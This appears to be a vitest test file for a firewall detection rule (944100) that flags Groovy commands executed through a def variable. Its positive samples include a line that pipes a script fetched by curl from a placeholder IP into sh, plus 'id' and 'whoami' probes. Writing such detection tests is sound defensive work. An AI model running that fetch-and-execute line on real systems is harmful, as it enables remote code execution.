/**
 * Groovy's `execute()` on a `def` just given a command (groovy-exec.ts, 944100), in both engines; a
 * JDBC statement's `execute()` and other Groovy pass.
 */
import { describe, expect, it } from "vitest";
import { groovyAliasedExecute } from "../../../core/signatures/groovy-exec.ts";
import { BACKENDS, jsonInput } from "./support.ts";

describe("Groovy commands run through a variable", () => {
  it("takes a list or a string given to a def and executed", () => {
    for (const v of [
      "def c=['sh','-c','curl -fsSL http://198.51.100.88/m.sh|sh'];c.execute()",
      'def s = "id"; println s.execute().text',
      "def cmd = ['cmd.exe', '/c', 'whoami']\nprintln cmd.execute().text",
    ])
      expect(groovyAliasedExecute(v), v).toBe(true);
  });

  it("leaves a JDBC statement, another variable's call and plain Groovy alone", () => {
    for (const v of [
      'def stmt = conn.createStatement(); stmt.execute("select 1")',
      "def a = 'x'; def b = job; b.execute()",
      "def list = [1,2,3]; list.each { println it }",
      "Please execute the def file tomorrow",
    ])
      expect(groovyAliasedExecute(v), v).toBe(false);
  });

  it("reports 944100 on the field, in both engines", () => {
    for (const { name, make } of BACKENDS) {
      const found = make()
        .inspect(jsonInput({ groovyProgram: "def c=['sh','-c','id'];c.execute()" }), { paranoia: 1, threshold: 5 })
        .matches.map((m) => `${m.rule}@${m.location}`);
      expect(found, name).toContain("944100@body:json.groovyProgram");
    }
  });
});
